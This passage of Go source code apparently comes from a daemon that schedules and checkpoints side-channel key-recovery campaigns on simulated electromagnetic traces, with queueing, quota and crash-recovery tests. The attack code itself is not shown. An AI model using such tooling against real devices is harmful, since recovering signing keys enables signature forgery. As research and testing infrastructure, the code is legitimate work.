		return s, fmt.Errorf("%w: traces must be positive, got %d", errSpec, s.Traces)
	}
	if limits.MaxTraces > 0 && s.Traces > limits.MaxTraces {
		return s, fmt.Errorf("%w: trace budget %d exceeds the server cap %d", errSpec, s.Traces, limits.MaxTraces)
	}
	if s.Noise == 0 {
		s.Noise = 2
	}
	if s.Noise < 0 {
		return s, fmt.Errorf("%w: noise sigma must be non-negative, got %g", errSpec, s.Noise)
	}
	if s.ShardObs < 0 || s.ChunkObs < 0 {
		return s, fmt.Errorf("%w: shardObs/chunkObs must be non-negative", errSpec)
	}
	w, err := core.ValidateWorkers(s.Workers)
	if err != nil {
		return s, fmt.Errorf("%w: %v", errSpec, err)
	}
	s.Workers = w
	if s.Devices == 0 {
		s.Devices = 1
	}
	if s.Devices < 0 {
		return s, fmt.Errorf("%w: devices must be positive, got %d", errSpec, s.Devices)
	}
	if s.TimeoutMS < 0 || s.HedgeMS < 0 || s.Breaker < 0 {
		return s, fmt.Errorf("%w: timeoutMS/hedgeMS/breaker must be non-negative", errSpec)
	}
	dists, err := emleak.ParseFlakySpec(s.Flaky, s.Devices, s.Seed)
	if err != nil {
		return s, fmt.Errorf("%w: %v", errSpec, err)
	}
	for _, d := range dists {
		if d.HangProb > 0 && s.TimeoutMS <= 0 && s.HedgeMS <= 0 {
			return s, fmt.Errorf("%w: a hanging device needs timeoutMS or hedgeMS to recover from", errSpec)
		}
	}
	if s.TopK < 0 || s.Window < 0 || s.Confidence < 0 || s.Confidence >= 1 ||
		s.Trim < 0 || s.Resync < 0 || s.Winsorize < 0 {
		return s, fmt.Errorf("%w: attack tuning fields must be non-negative (confidence < 1)", errSpec)
	}
	if s.Message == "" {
		s.Message = "forged by campaignd"
	}
	return s, nil
}

// Supervised reports whether acquisition goes through the supervise pool.
func (s Spec) Supervised() bool {
	return s.Devices > 1 || s.Flaky != "" || s.TimeoutMS > 0 || s.HedgeMS > 0 || s.Breaker > 0
}

// Timeout and Hedge convert the millisecond wire fields.
func (s Spec) Timeout() time.Duration { return time.Duration(s.TimeoutMS) * time.Millisecond }

// Hedge is the hedged re-measurement delay.
func (s Spec) Hedge() time.Duration { return time.Duration(s.HedgeMS) * time.Millisecond }

// AttackConfig assembles the core attack configuration the spec describes.
func (s Spec) AttackConfig() core.Config {
	return core.Config{
		TopK:          s.TopK,
		Window:        s.Window,
		Confidence:    s.Confidence,
		EscalateBelow: s.EscalateBelow,
		Robust: core.RobustConfig{
			TrimSigmas:  s.Trim,
			ResyncShift: s.Resync,
			Winsorize:   s.Winsorize,
		},
		Workers: s.Workers,
	}
}
