package campaign

import (
	"context"
	"net/http"
	"net/http/httptest"
	"testing"
)

func TestBackpressureRetryAfterValues(t *testing.T) {
	// The 429 (tenant quota) and 503 (queue full) responses both promise a
	// Retry-After; pin the exact value so clients with fixed backoff
	// schedules don't silently drift when the handler changes.
	srv, err := Open(t.TempDir(), Config{TenantMax: 1, QueueCap: 1})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	spec := func(tenant string) map[string]any {
		return map[string]any{"tenant": tenant, "n": 8, "traces": 100, "seed": 1}
	}
	resp := postSpec(t, ts.URL, spec("alice"))
	resp.Body.Close()
	if resp.StatusCode != http.StatusCreated {
		t.Fatalf("first submit: %s", resp.Status)
	}

	resp = postSpec(t, ts.URL, spec("alice"))
	resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("quota submit: %s, want 429", resp.Status)
	}
	if got := resp.Header.Get("Retry-After"); got != "30" {
		t.Fatalf("429 Retry-After = %q, want \"30\"", got)
	}

	resp = postSpec(t, ts.URL, spec("bob"))
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("backpressure submit: %s, want 503", resp.Status)
	}
	if got := resp.Header.Get("Retry-After"); got != "30" {
		t.Fatalf("503 Retry-After = %q, want \"30\"", got)
	}
}

func TestQueuePopOrderUnderMixedTenants(t *testing.T) {
	// The pop order is priority descending, then admission sequence
	// ascending — and ONLY that. Tenant identity must not perturb it:
	// quotas gate admission, never scheduling.
	q := newQueue(0)
	mk := func(id, tenant string, priority, seq int) *Campaign {
		return &Campaign{ID: id, Spec: Spec{Tenant: tenant, Priority: priority}, seq: seq}
	}
	// Push deliberately shuffled relative to the expected pop order.
	for _, c := range []*Campaign{
		mk("c000004", "bob", 0, 4),
		mk("c000002", "alice", 5, 2),
		mk("c000006", "alice", 0, 6),
		mk("c000001", "bob", 5, 1),
		mk("c000003", "carol", 2, 3),
		mk("c000005", "carol", 2, 5),
	} {
		if err := q.push(c, false); err != nil {
			t.Fatal(err)
		}
	}
	want := []string{
		"c000001", // priority 5, seq 1
		"c000002", // priority 5, seq 2
		"c000003", // priority 2, seq 3
		"c000005", // priority 2, seq 5
		"c000004", // priority 0, seq 4
		"c000006", // priority 0, seq 6
	}
	for i, id := range want {
		c, err := q.pop(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		if c.ID != id {
			t.Fatalf("pop %d = %s, want %s (priority desc, then admission seq asc)", i, c.ID, id)
		}
	}
	if q.depth() != 0 {
		t.Fatalf("queue depth %d after draining", q.depth())
	}
}
