package campaign

import (
	"errors"
	"net/http"
	"net/http/httptest"
	"testing"
)

func TestTenantDiskQuota(t *testing.T) {
	// The server is never started: every campaign stays queued, so the
	// accounting under test is pure reservation arithmetic — charge on
	// Submit, release on Cancel — with no runner racing it.
	spec := e2eSpec()
	one := estimateSpecBytes(spec)
	srv, err := Open(t.TempDir(), Config{TenantDiskBytes: one + one/2})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Kill()

	first, err := srv.Submit(spec)
	if err != nil {
		t.Fatal(err)
	}
	if got := srv.TenantDiskUsage("default"); got != one {
		t.Fatalf("usage after one submit = %d, want the %d-byte reservation", got, one)
	}

	// A second campaign would exceed the cap: refused with the typed
	// sentinel, nothing persisted, usage unmoved.
	if _, err := srv.Submit(spec); !errors.Is(err, ErrDiskQuota) {
		t.Fatalf("over-cap submit: got %v, want ErrDiskQuota", err)
	}
	if got := srv.TenantDiskUsage("default"); got != one {
		t.Fatalf("refused submit moved usage to %d", got)
	}

	// The cap is per tenant: another tenant with the same spec is admitted.
	other := spec
	other.Tenant = "other"
	if _, err := srv.Submit(other); err != nil {
		t.Fatalf("other tenant refused: %v", err)
	}

	// Over HTTP the refusal is 429 with a Retry-After hint, same as the
	// campaign-count quota.
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	resp := postSpec(t, ts.URL, spec)
	resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("over-cap HTTP submit: %s, want 429", resp.Status)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Fatal("429 carries no Retry-After")
	}

	// Cancelling the queued campaign releases its whole reservation, and
	// the tenant can submit again.
	if _, err := srv.Cancel(first.ID); err != nil {
		t.Fatal(err)
	}
	if got := srv.TenantDiskUsage("default"); got != 0 {
		t.Fatalf("usage after cancel = %d, want 0", got)
	}
	if _, err := srv.Submit(spec); err != nil {
		t.Fatalf("submit after cancel refused: %v", err)
	}
}

func TestTenantDiskQuotaSurvivesReopen(t *testing.T) {
	// After a restart, Open re-measures the bytes each non-cancelled
	// campaign actually holds on disk and rebuilds the tenant ledger from
	// that, so a crashed server cannot leak quota.
	dir := t.TempDir()
	spec := e2eSpec()
	srv, err := Open(dir, Config{})
	if err != nil {
		t.Fatal(err)
	}
	c, err := srv.Submit(spec)
	if err != nil {
		t.Fatal(err)
	}
	srv.Kill()

	srv2, err := Open(dir, Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer srv2.Kill()
	want := dirBytes(srv2.Store().Dir(c.ID))
	if want == 0 {
		t.Fatal("queued campaign left nothing on disk")
	}
	if got := srv2.TenantDiskUsage("default"); got != want {
		t.Fatalf("reopened usage = %d, directory holds %d", got, want)
	}
}
