package campaign

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"falcondown/internal/core"
)

// runReference executes one campaign uninterrupted in a fresh store and
// returns its directory — the byte-comparison target for the kill/restart
// and isolation suites.
func runReference(t *testing.T, spec Spec) string {
	t.Helper()
	srv, err := Open(t.TempDir(), Config{})
	if err != nil {
		t.Fatal(err)
	}
	srv.Start()
	c, err := srv.Submit(spec)
	if err != nil {
		t.Fatal(err)
	}
	if st := waitStatus(t, c); st != StatusDone {
		t.Fatalf("reference campaign ended %q: %+v", st, c.Snapshot())
	}
	stopServer(t, srv)
	return c.dir
}

func stopServer(t *testing.T, srv *Server) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := srv.Stop(ctx); err != nil {
		t.Fatalf("server stop: %v", err)
	}
}

// campaignArtifacts are the files whose bytes define a campaign's outcome.
// The checkpoint sidecar is the heart of the contract: an interrupted
// campaign must finish with a sidecar byte-identical to an uninterrupted
// run's.
var campaignArtifacts = []string{traceFile, traceFile + ".ckpt", keyFile, resultFile, pubFile}

func compareArtifacts(t *testing.T, refDir, gotDir string) {
	t.Helper()
	for _, name := range campaignArtifacts {
		want, err := os.ReadFile(filepath.Join(refDir, name))
		if err != nil {
			t.Fatalf("reference %s: %v", name, err)
		}
		got, err := os.ReadFile(filepath.Join(gotDir, name))
		if err != nil {
			t.Fatalf("candidate %s: %v", name, err)
		}
		if !bytes.Equal(want, got) {
			t.Errorf("%s differs from the uninterrupted reference (%d vs %d bytes)",
				name, len(got), len(want))
		}
	}
}

// TestRestartMidAttack kills the server between attack phases — after the
// exponent-phase checkpoint landed — restarts it over the same store, and
// proves the re-adopted campaign resumes from the sidecar and finishes
// with artifacts byte-identical to an uninterrupted run.
func TestRestartMidAttack(t *testing.T) {
	spec := e2eSpec()
	refDir := runReference(t, spec)

	root := t.TempDir()
	srv, err := Open(root, Config{})
	if err != nil {
		t.Fatal(err)
	}
	reached := make(chan struct{})
	release := make(chan struct{})
	var once sync.Once
	hooks.set(nil, func(id, stage string) {
		if stage == core.StageExponents {
			once.Do(func() { close(reached) })
			<-release
		}
	})
	defer hooks.set(nil, nil)

	srv.Start()
	c, err := srv.Submit(spec)
	if err != nil {
		t.Fatal(err)
	}
	select {
	case <-reached:
	case <-time.After(120 * time.Second):
		t.Fatal("campaign never reached the exponent checkpoint")
	}
	// Hard kill while the runner is parked on the phase boundary: no
	// graceful finalization, no state rewrite — exactly what a SIGKILL'd
	// daemon leaves behind.
	srv.Kill()
	close(release)
	stopServer(t, srv)
	hooks.set(nil, nil)

	if st := c.Status(); terminal(st) {
		t.Fatalf("killed campaign already terminal (%s)", st)
	}

	// Restart over the same store: the campaign must be re-adopted and
	// driven to completion from its durable artifacts.
	srv2, err := Open(root, Config{})
	if err != nil {
		t.Fatal(err)
	}
	adopted := srv2.Adopted()
	if len(adopted) != 1 || adopted[0] != c.ID {
		t.Fatalf("adopted %v, want [%s]", adopted, c.ID)
	}
	c2, ok := srv2.Get(c.ID)
	if !ok {
		t.Fatalf("campaign %s lost across restart", c.ID)
	}
	if evs := c2.Events(0); len(evs) == 0 || evs[0].Type != EventAdopted {
		t.Fatalf("first event after restart = %+v, want %s", evs, EventAdopted)
	}
	srv2.Start()
	if st := waitStatus(t, c2); st != StatusDone {
		t.Fatalf("re-adopted campaign ended %q: %+v", st, c2.Snapshot())
	}
	stopServer(t, srv2)

	compareArtifacts(t, refDir, c2.dir)
}

// TestRestartMidAcquisition kills the server in the middle of trace
// capture, additionally tears the corpus tail (the crash landed mid-write),
// and proves the restarted server salvages the committed prefix,
// re-acquires the identical remaining observations and finishes with
// byte-identical artifacts.
func TestRestartMidAcquisition(t *testing.T) {
	spec := e2eSpec()
	refDir := runReference(t, spec)

	root := t.TempDir()
	srv, err := Open(root, Config{})
	if err != nil {
		t.Fatal(err)
	}
	reached := make(chan struct{})
	release := make(chan struct{})
	var once sync.Once
	// Trigger past the writer's first 1 MiB buffer flush (~565 of the 1200
	// degree-8 observations) so the kill leaves real committed chunks plus
	// a tail to tear; killing earlier leaves a zero-byte file, which the
	// sub-header salvage path covers (tested in tracestore).
	hooks.set(func(id string, count int) {
		if count >= spec.Traces*3/4 {
			once.Do(func() { close(reached) })
			<-release
		}
	}, nil)
	defer hooks.set(nil, nil)

	srv.Start()
	c, err := srv.Submit(spec)
	if err != nil {
		t.Fatal(err)
	}
	select {
	case <-reached:
	case <-time.After(120 * time.Second):
		t.Fatal("campaign never reached the acquisition trigger")
	}
	srv.Kill()
	close(release)
	stopServer(t, srv)
	hooks.set(nil, nil)

	// Tear the corpus tail: a crash mid-write leaves a torn final chunk
	// that salvage must discard.
	tracePath := srv.Store().TracePath(c.ID)
	fi, err := os.Stat(tracePath)
	if err != nil {
		t.Fatalf("corpus missing after kill: %v", err)
	}
	if fi.Size() < 64 {
		t.Fatalf("corpus only %d bytes at kill time", fi.Size())
	}
	if err := os.Truncate(tracePath, fi.Size()-7); err != nil {
		t.Fatal(err)
	}

	srv2, err := Open(root, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if adopted := srv2.Adopted(); len(adopted) != 1 || adopted[0] != c.ID {
		t.Fatalf("adopted %v, want [%s]", adopted, c.ID)
	}
	c2, _ := srv2.Get(c.ID)
	srv2.Start()
	if st := waitStatus(t, c2); st != StatusDone {
		t.Fatalf("re-adopted campaign ended %q: %+v", st, c2.Snapshot())
	}
	stopServer(t, srv2)

	compareArtifacts(t, refDir, c2.dir)
}

// TestConcurrentCampaignsIsolated runs two different campaigns on two
// slots at once and proves each produces artifacts byte-identical to the
// same campaign run alone on an idle server — no cross-campaign
// contamination through any shared state.
func TestConcurrentCampaignsIsolated(t *testing.T) {
	specA := e2eSpec()
	specA.Tenant = "alice"
	// A second, different victim: the seed/noise/count triple matches the
	// proven public-API recovery scenario (key 11, device 12, traces 13).
	specB := Spec{N: 8, Traces: 1500, Noise: 2.0, Seed: 11, Workers: 1, Tenant: "bob"}

	refA := runReference(t, specA)
	refB := runReference(t, specB)

	srv, err := Open(t.TempDir(), Config{Slots: 2})
	if err != nil {
		t.Fatal(err)
	}
	srv.Start()
	ca, err := srv.Submit(specA)
	if err != nil {
		t.Fatal(err)
	}
	cb, err := srv.Submit(specB)
	if err != nil {
		t.Fatal(err)
	}
	if st := waitStatus(t, ca); st != StatusDone {
		t.Fatalf("campaign A ended %q: %+v", st, ca.Snapshot())
	}
	if st := waitStatus(t, cb); st != StatusDone {
		t.Fatalf("campaign B ended %q: %+v", st, cb.Snapshot())
	}
	stopServer(t, srv)

	compareArtifacts(t, refA, ca.dir)
	compareArtifacts(t, refB, cb.dir)
}
