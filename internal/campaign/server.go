package campaign

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"path/filepath"
	"sync"
	"sync/atomic"

	"falcondown/internal/core"
	"falcondown/internal/tracestore"
)

// Config tunes a Server. Zero values take the stated defaults.
type Config struct {
	// Slots is the number of campaigns that run concurrently (default 1).
	// Each slot drives one campaign end to end; campaigns never share
	// state — isolation is per-directory, proven by the concurrency
	// suite.
	Slots int
	// QueueCap bounds the number of queued (not yet running) campaigns
	// (default 64; submissions beyond it get ErrQueueFull / HTTP 503).
	QueueCap int
	// TenantMax bounds one tenant's active (queued + running) campaigns
	// (default 4; 0 < TenantMax; submissions beyond it get
	// ErrTenantQuota / HTTP 429). Set negative for unlimited.
	TenantMax int
	// TenantDiskBytes bounds one tenant's store-directory footprint
	// (0 = unlimited). A submission is charged an upper-bound estimate of
	// its corpus size up front; the charge is trued-up against the real
	// directory when the campaign settles and released entirely on
	// cancellation. Submissions that would exceed the cap get
	// ErrDiskQuota / HTTP 429.
	TenantDiskBytes int64
	// Limits bounds what a single campaign may ask for.
	Limits Limits
	// Distributor, when set, builds a core.Distributor for a campaign
	// whose spec asks for distributed execution; corpus is the campaign's
	// trace path relative to the store root (workers resolve it against
	// their own copy of the root), and src is the opened authoritative
	// corpus — a fleet-backed server registers it with its blob service so
	// divergent or diskless workers can pull the true shards by content
	// digest. Nil runs every campaign locally even if its spec says
	// distributed — degradation, not rejection.
	Distributor func(corpus string, src *tracestore.Corpus) core.Distributor
	// HealthExtra, when set, contributes extra counters to the healthz
	// snapshot (campaignd -fleet reports fleet tallies through it).
	HealthExtra func() map[string]int64
}

func (c Config) withDefaults() Config {
	if c.Slots <= 0 {
		c.Slots = 1
	}
	if c.QueueCap == 0 {
		c.QueueCap = 64
	}
	if c.TenantMax == 0 {
		c.TenantMax = 4
	}
	return c
}

// Server multiplexes attack campaigns over a shared store root: a bounded
// priority queue feeds slot workers that run each campaign through the
// resumable acquisition and checkpointed attack phases. Opening a server
// over an existing store re-adopts every in-flight campaign from its
// durable artifacts.
type Server struct {
	cfg   Config
	store *Store

	mu        sync.Mutex
	campaigns map[string]*Campaign
	order     []string // admission order, for listings
	nextID    int
	nextSeq   int
	adopted   []string
	// usage tracks per-tenant store-directory bytes (reservations for
	// in-flight campaigns, measured footprints for settled ones); guarded
	// by mu along with every Campaign.diskCharge.
	usage map[string]int64

	queue     *queue
	runCtx    context.Context
	runCancel context.CancelFunc
	killed    atomic.Bool
	wg        sync.WaitGroup
	started   bool
}

// Open builds a server over the store root, scanning it for existing
// campaigns. Terminal campaigns are listed as-is; in-flight ones
// (queued/acquiring/attacking at the time of the crash or shutdown) are
// marked adopted and re-enqueued when Start is called. Open never starts
// work — callers inspect Adopted() and then Start().
func Open(root string, cfg Config) (*Server, error) {
	store, err := NewStore(root)
	if err != nil {
		return nil, err
	}
	cfg = cfg.withDefaults()
	ctx, cancel := context.WithCancel(context.Background())
	s := &Server{
		cfg:       cfg,
		store:     store,
		campaigns: make(map[string]*Campaign),
		usage:     make(map[string]int64),
		queue:     newQueue(cfg.QueueCap),
		runCtx:    ctx,
		runCancel: cancel,
	}
	scanned, err := store.Scan()
	if err != nil {
		cancel()
		return nil, err
	}
	s.nextID = NextID(scanned)
	registerQueueDepth(s)
	for _, p := range scanned {
		c := &Campaign{
			ID:     p.ID,
			Spec:   p.Spec,
			seq:    s.nextSeq,
			dir:    store.Dir(p.ID),
			log:    newEventLog(),
			status: p.State.Status,
		}
		c.phase = p.State.Phase
		c.acquired = p.State.Acquired
		c.errMsg = p.State.Error
		s.nextSeq++
		if !terminal(c.status) {
			c.adopted = true
			c.status = StatusQueued // re-runs from its durable artifacts
			s.adopted = append(s.adopted, c.ID)
			c.log.append(Event{
				Type:  EventAdopted,
				Phase: p.State.Phase,
				Count: p.State.Acquired,
				Msg:   fmt.Sprintf("re-adopted after restart (was %q)", p.State.Status),
			})
		}
		// Disk accounting restarts from what is actually on disk;
		// cancelled campaigns were released when they went terminal and
		// stay released.
		if p.State.Status != StatusCancelled {
			c.diskCharge = dirBytes(c.dir)
			s.usage[c.Spec.Tenant] += c.diskCharge
		}
		s.campaigns[c.ID] = c
		s.order = append(s.order, c.ID)
	}
	return s, nil
}

// Adopted lists the campaign IDs re-admitted from disk by Open, in ID
// order.
func (s *Server) Adopted() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.adopted...)
}

// Start enqueues the adopted campaigns (ahead of any new submissions, in
// ID order, bypassing the queue bound — they were admitted before the
// restart) and launches the slot workers.
func (s *Server) Start() {
	s.mu.Lock()
	if s.started {
		s.mu.Unlock()
		return
	}
	s.started = true
	for _, id := range s.adopted {
		s.queue.push(s.campaigns[id], true)
	}
	slots := s.cfg.Slots
	s.mu.Unlock()
	for i := 0; i < slots; i++ {
		s.wg.Add(1)
		go s.slot()
	}
}

// slot is one campaign-execution worker.
func (s *Server) slot() {
	defer s.wg.Done()
	for {
		c, err := s.queue.pop(s.runCtx)
		if err != nil {
			return
		}
		s.runCampaign(c)
		if s.runCtx.Err() != nil {
			return
		}
	}
}

// Submit validates, persists and enqueues a new campaign.
func (s *Server) Submit(spec Spec) (*Campaign, error) {
	spec, err := spec.Normalize(s.cfg.Limits)
	if err != nil {
		return nil, err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.cfg.TenantMax > 0 && s.activeLocked(spec.Tenant) >= s.cfg.TenantMax {
		mReject429.Inc()
		return nil, fmt.Errorf("%w: tenant %q already has %d active campaign(s)",
			ErrTenantQuota, spec.Tenant, s.cfg.TenantMax)
	}
	charge := estimateSpecBytes(spec)
	if s.cfg.TenantDiskBytes > 0 && s.usage[spec.Tenant]+charge > s.cfg.TenantDiskBytes {
		mReject429.Inc()
		return nil, fmt.Errorf("%w: tenant %q holds %d byte(s), campaign needs ~%d more, cap is %d",
			ErrDiskQuota, spec.Tenant, s.usage[spec.Tenant], charge, s.cfg.TenantDiskBytes)
	}
	if s.queue.depth() >= s.cfg.QueueCap {
		mReject503.Inc()
		return nil, fmt.Errorf("%w: %d campaign(s) queued", ErrQueueFull, s.cfg.QueueCap)
	}
	id := FormatID(s.nextID)
	if err := s.store.Create(id, spec); err != nil {
		return nil, err
	}
	c := &Campaign{
		ID:     id,
		Spec:   spec,
		seq:    s.nextSeq,
		dir:    s.store.Dir(id),
		log:    newEventLog(),
		status: StatusQueued,
	}
	if err := s.store.SaveState(id, c.currentState()); err != nil {
		return nil, err
	}
	c.diskCharge = charge
	s.usage[spec.Tenant] += charge
	mSubmitted.Inc()
	tenantDiskGauge(spec.Tenant).Set(float64(s.usage[spec.Tenant]))
	s.nextID++
	s.nextSeq++
	s.campaigns[id] = c
	s.order = append(s.order, id)
	c.log.append(Event{Type: EventQueued, Msg: fmt.Sprintf("queued at priority %d", spec.Priority)})
	s.queue.push(c, true) // capacity already checked under s.mu
	return c, nil
}

// activeLocked counts a tenant's non-terminal campaigns. Caller holds
// s.mu.
func (s *Server) activeLocked(tenant string) int {
	n := 0
	for _, c := range s.campaigns {
		if c.Spec.Tenant == tenant && !terminal(c.Status()) {
			n++
		}
	}
	return n
}

// estimateSpecBytes upper-bounds a campaign's store-directory footprint:
// the corpus estimate plus a flat allowance for the spec, state, sidecar,
// result and public-key files.
func estimateSpecBytes(spec Spec) int64 {
	return tracestore.EstimateCorpusBytes(spec.N, spec.Traces) + 1<<16
}

// dirBytes sums the file sizes under dir (0 if it does not exist).
func dirBytes(dir string) int64 {
	var total int64
	filepath.WalkDir(dir, func(_ string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		if info, ierr := d.Info(); ierr == nil {
			total += info.Size()
		}
		return nil
	})
	return total
}

// settleDisk reconciles a terminal campaign's tenant disk charge: a
// cancelled campaign releases its reservation entirely (the operator
// reclaims any bytes out of band), any other terminal campaign is
// trued-up from the submission-time estimate to the bytes actually on
// disk.
func (s *Server) settleDisk(c *Campaign) {
	actual := int64(0)
	if c.Status() != StatusCancelled {
		actual = dirBytes(c.dir)
	}
	s.mu.Lock()
	s.usage[c.Spec.Tenant] += actual - c.diskCharge
	if s.usage[c.Spec.Tenant] < 0 {
		s.usage[c.Spec.Tenant] = 0
	}
	c.diskCharge = actual
	tenantDiskGauge(c.Spec.Tenant).Set(float64(s.usage[c.Spec.Tenant]))
	s.mu.Unlock()
}

// TenantDiskUsage reports the bytes currently accounted to a tenant
// (reservations for in-flight campaigns plus measured footprints of
// settled ones).
func (s *Server) TenantDiskUsage(tenant string) int64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.usage[tenant]
}

// Get returns a campaign by ID.
func (s *Server) Get(id string) (*Campaign, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	c, ok := s.campaigns[id]
	return c, ok
}

// List returns snapshots of every campaign in admission order.
func (s *Server) List() []Snapshot {
	s.mu.Lock()
	ids := append([]string(nil), s.order...)
	s.mu.Unlock()
	out := make([]Snapshot, 0, len(ids))
	for _, id := range ids {
		if c, ok := s.Get(id); ok {
			out = append(out, c.Snapshot())
		}
	}
	return out
}

// QueueDepth reports the number of queued campaigns.
func (s *Server) QueueDepth() int { return s.queue.depth() }

// Store exposes the server's store (result/key reads for the HTTP layer).
func (s *Server) Store() *Store { return s.store }

// Stop shuts the server down gracefully: campaigns stop at their next
// boundary (acquisition commit, attack phase checkpoint) with their state
// persisted, so a later Open re-adopts them. Stop waits for the slot
// workers up to the context deadline.
func (s *Server) Stop(ctx context.Context) error {
	s.runCancel()
	done := make(chan struct{})
	go func() { s.wg.Wait(); close(done) }()
	select {
	case <-done:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// ErrTerminal reports a cancel request against a campaign that already
// reached a terminal state (HTTP 409).
var ErrTerminal = errors.New("campaign: already terminal")

// Cancel stops one campaign: a queued campaign goes terminal on the
// spot (its queue entry is skipped when popped); a running one has its
// context cancelled and stops at the next durable boundary —
// acquisition chunk or attack phase checkpoint — exactly like a
// graceful shutdown, except the campaign lands in "cancelled" instead
// of staying re-adoptable. Its tenant-quota slot frees either way.
func (s *Server) Cancel(id string) (Snapshot, error) {
	c, ok := s.Get(id)
	if !ok {
		return Snapshot{}, fmt.Errorf("campaign: no such campaign %q", id)
	}
	c.mu.Lock()
	if terminal(c.status) {
		c.mu.Unlock()
		return c.Snapshot(), ErrTerminal
	}
	c.cancelReq = true
	cancel := c.cancel
	if cancel == nil {
		// Still queued: never started, so go terminal directly. The slot
		// worker that eventually pops this entry sees the terminal status
		// and drops it.
		c.status = StatusCancelled
		c.mu.Unlock()
		s.settleDisk(c)
		if err := s.store.SaveState(id, c.currentState()); err != nil {
			return c.Snapshot(), err
		}
		c.log.append(Event{Type: EventCancelled, Msg: "cancelled while queued"})
		return c.Snapshot(), nil
	}
	c.mu.Unlock()
	cancel()
	return c.Snapshot(), nil
}

// Kill hard-aborts the server without any cleanup: no shard
// finalization, no state persistence, workers abandoned mid-flight. It
// emulates a SIGKILL for the crash-recovery suite (a real SIGKILL is
// exercised by scripts/smoke.sh against the daemon); production shutdown
// is Stop.
func (s *Server) Kill() {
	s.killed.Store(true)
	s.runCancel()
}
