package campaign

import (
	"context"
	"sync"
)

// Event types, in roughly the order a healthy campaign emits them.
const (
	EventQueued    = "queued"    // admitted to the queue
	EventAdopted   = "adopted"   // re-admitted from disk after a restart
	EventAcquire   = "acquire"   // acquisition progress (Count traces durable)
	EventAcquired  = "acquired"  // corpus complete (Suspects/Breakers set when supervised)
	EventAttacking = "attacking" // extraction started (or resumed)
	EventPhase     = "phase"     // attack phase completed (Phase, Beam)
	EventFleet     = "fleet"     // distributed-attack fleet report (Msg)
	EventDone      = "done"      // result + key available
	EventFailed    = "failed"    // terminal failure (Msg)
	EventCancelled = "cancelled" // terminal cancellation by request
)

// Event is one progress record of a campaign. Sequence numbers start at 1
// and are dense; they restart when a server restart re-adopts the
// campaign (the log is in-memory — durable state lives in the store, and
// a long-poller that reconnects after a restart starts from after=0
// again).
type Event struct {
	Seq  int    `json:"seq"`
	Type string `json:"type"`
	// Phase is the completed attack phase for EventPhase.
	Phase string `json:"phase,omitempty"`
	// Beam is the mantissa candidate beam width (TopK) in effect for the
	// completed phase.
	Beam int `json:"beam,omitempty"`
	// Count is the durable trace count for EventAcquire/EventAcquired.
	Count int `json:"count,omitempty"`
	// Suspects counts observations flagged by the write-time quality gate
	// (supervised acquisition only).
	Suspects int `json:"suspects,omitempty"`
	// Breakers summarizes the device circuit-breaker states (supervised
	// acquisition only).
	Breakers string `json:"breakers,omitempty"`
	Msg      string `json:"msg,omitempty"`
}

// fleetReporter is the loose coupling to internal/cluster: a Distributor
// that can summarize its fleet counters (retries, repairs, cross-check
// verdicts, quarantines) gets its line recorded as an EventFleet after a
// distributed attack, without this package importing the cluster layer.
type fleetReporter interface {
	Summary() string
}

// eventLog is an append-only in-memory progress log with broadcast
// wake-ups for long-polling readers.
type eventLog struct {
	mu     sync.Mutex
	events []Event
	wake   chan struct{}
}

func newEventLog() *eventLog {
	return &eventLog{wake: make(chan struct{})}
}

// append assigns the next sequence number, records the event and wakes
// every waiting long-poller.
func (l *eventLog) append(e Event) {
	l.mu.Lock()
	e.Seq = len(l.events) + 1
	l.events = append(l.events, e)
	close(l.wake)
	l.wake = make(chan struct{})
	l.mu.Unlock()
}

// Since returns the events with sequence numbers greater than after.
func (l *eventLog) Since(after int) []Event {
	l.mu.Lock()
	defer l.mu.Unlock()
	if after < 0 {
		after = 0
	}
	if after >= len(l.events) {
		return nil
	}
	out := make([]Event, len(l.events)-after)
	copy(out, l.events[after:])
	return out
}

// Wait blocks until an event past after exists or ctx ends, then returns
// what is available.
func (l *eventLog) Wait(ctx context.Context, after int) []Event {
	for {
		l.mu.Lock()
		if after < len(l.events) {
			out := make([]Event, len(l.events)-after)
			copy(out, l.events[after:])
			l.mu.Unlock()
			return out
		}
		wake := l.wake
		l.mu.Unlock()
		select {
		case <-wake:
		case <-ctx.Done():
			return nil
		}
	}
}
