package campaign

import (
	"bytes"
	"net/http/httptest"
	"os"
	"testing"

	"falcondown/internal/cluster"
	"falcondown/internal/core"
	"falcondown/internal/tracestore"
)

func TestDistributedCampaignBytesIdenticalToLocal(t *testing.T) {
	// The same spec, run once locally and once over a one-node fleet
	// sharing the store root, must leave byte-identical result.json,
	// key.json and attack sidecar — the Distributed flag is a placement
	// preference, never a semantic one.
	runOnce := func(distributed bool) (result, key, sidecar []byte) {
		root := t.TempDir()
		cfg := Config{}
		if distributed {
			fleet := httptest.NewServer(cluster.NewWorker(root).Handler())
			defer fleet.Close()
			cfg.Distributor = func(corpus string, src *tracestore.Corpus) core.Distributor {
				return cluster.New(cluster.Options{Workers: []string{fleet.URL}, Corpus: corpus})
			}
		}
		srv, err := Open(root, cfg)
		if err != nil {
			t.Fatal(err)
		}
		srv.Start()
		defer srv.Kill()
		spec := e2eSpec()
		spec.Distributed = distributed
		c, err := srv.Submit(spec)
		if err != nil {
			t.Fatal(err)
		}
		if st := waitStatus(t, c); st != StatusDone {
